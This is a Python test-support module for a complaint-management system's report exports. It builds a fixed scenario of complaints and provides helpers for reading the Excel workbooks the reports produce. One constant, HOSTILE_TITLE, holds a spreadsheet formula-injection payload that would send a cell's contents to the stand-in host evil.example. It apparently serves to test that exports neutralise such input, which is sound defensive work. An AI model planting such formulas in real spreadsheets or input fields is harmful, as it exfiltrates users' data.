"""The pengaduan reports' shared scenario and the readers of their workbooks, for every test of the reports
(exports, the report CLI, the internal reports pages)."""

from __future__ import annotations

import io
from datetime import date, datetime

import sqlalchemy as sa
from openpyxl import load_workbook

from tests.factories import make_pengaduan, make_user
from zi_public.exports import build_report
from zi_public.localtime import JAKARTA
from zi_public.models import Bidang, Pengaduan, Role
from zi_public.rules.pengaduan import Action, Channel
from zi_public.rules.periods import parse_period
from zi_public.services.pengaduan.flow import ActionInput, act
from zi_public.services.reference import seed_reference_data

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
#: "Now" for the builds below: the scenario's dates lie around the real date the suite may run on.
NOW = datetime(2027, 1, 15, 9, 0, tzinfo=JAKARTA)


def wib(month: int, day: int, hour: int = 10, minute: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=JAKARTA)


#: Every reporter of the scenario leaves a phone number and a NIK too: no report may show them.
REPORTER = {"phone": "081234567890", "nik": "3371010101010001"}


def _file(when: datetime, category: str, channel: Channel = Channel.WEB, **fields) -> Pengaduan:
    """One complaint of the scenario: make_pengaduan with the reporter's phone and NIK."""
    return make_pengaduan(now=when, channel=channel, category=category, **{**REPORTER, **fields})


def file_scenario(db) -> dict[str, Pengaduan]:
    """Nine complaints from July to December 2026 at fixed times, moved through the flow.

    Working days (2026): Mon 17 Aug and Tue 25 Aug are holidays; July, October, November and early
    December have none. Expected figures are worked out by hand in the tests below.
    """
    seed_reference_data()
    team = make_user(role=Role.PENGADUAN)
    bidang = db.session.scalar(sa.select(Bidang).where(Bidang.code == "perizinan-b"))
    cases: dict[str, Pengaduan] = {}

    g = cases["G"] = _file(wib(7, 15), "waktu")  # Wed
    act(team, g, Action.VERIFY, ActionInput(), now=wib(7, 15, 14))
    act(team, g, Action.DISPOSE, ActionInput(body="Cek berkas", bidang_id=bidang.id), now=wib(7, 16))
    act(team, g, Action.ANSWER, ActionInput(body="Sudah terbit."), now=wib(7, 16, 15))
    act(team, g, Action.FINISH, ActionInput(), now=wib(7, 20))  # Mon
    act("reporter", g, Action.RATE, ActionInput(rating=2), now=wib(7, 21))

    h = cases["H"] = _file(wib(8, 14), "sarana")  # Fri; verify_by skips the 17 August holiday
    act(team, h, Action.VERIFY, ActionInput(), now=wib(8, 20))

    f = cases["F"] = _file(wib(10, 31), "informasi")  # Sat
    act(team, f, Action.VERIFY, ActionInput(), now=wib(11, 2))

    a = cases["A"] = _file(wib(11, 2), "waktu", title=HOSTILE_TITLE)  # Mon
    act(team, a, Action.VERIFY, ActionInput(), now=wib(11, 4))
    act(team, a, Action.DISPOSE, ActionInput(body="Mohon dicek", bidang_id=bidang.id), now=wib(11, 5))
    act(team, a, Action.FOLLOW_UP, ActionInput(body="Koordinasi dengan bidang"), now=wib(11, 6))
    act(team, a, Action.ANSWER, ActionInput(body="@PBG terbit minggu ini."), now=wib(11, 9))
    act(team, a, Action.FINISH, ActionInput(), now=wib(11, 10))
    act("reporter", a, Action.RATE, ActionInput(rating=4), now=wib(11, 11))

    i = cases["I"] = _file(wib(11, 2, 11), "prosedur")
    act(team, i, Action.FORWARD, ActionInput(forwarded_to="BPN Kota Magelang"), now=wib(11, 6))  # late

    b = cases["B"] = _file(wib(11, 3), "biaya", Channel.KIOSK, identity="anonim")
    act(team, b, Action.VERIFY, ActionInput(), now=wib(11, 9))  # late: due Fri 6 Nov

    c = cases["C"] = _file(wib(11, 10), "waktu", Channel.API, identity="rahasia")
    act(team, c, Action.REJECT, ActionInput(body="Bukan kewenangan kami"), now=wib(11, 11))

    cases["D"] = _file(wib(11, 30, 23, 30), "lainnya")  # still 30 November in Jakarta
    cases["E"] = _file(wib(12, 1, 0, 30), "lainnya")  # already December
    db.session.commit()
    return cases


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def header_row(ws) -> int:
    """The row of a sheet's column headers: the one frozen above the data (below a title block)."""
    return int(ws.freeze_panes[1:]) - 1


def header_of(ws) -> list[object]:
    return [c.value for c in ws[header_row(ws)] if c.value is not None]


def rows_of(ws) -> list[tuple[object, ...]]:
    """The table's data rows: from below the header to the first empty row (the signatures follow)."""
    width = len(header_of(ws))
    rows = []
    for row in ws.iter_rows(min_row=header_row(ws) + 1, max_col=width, values_only=True):
        if all(value is None for value in row):
            break
        rows.append(row)
    return rows


def report(name: str, period: str, as_of: date | None = None, **options):
    """Build a report at NOW (unless `now` is given) and open it."""
    options.setdefault("now", NOW)
    return build_report(name, parse_period(period), as_of=as_of, **options)
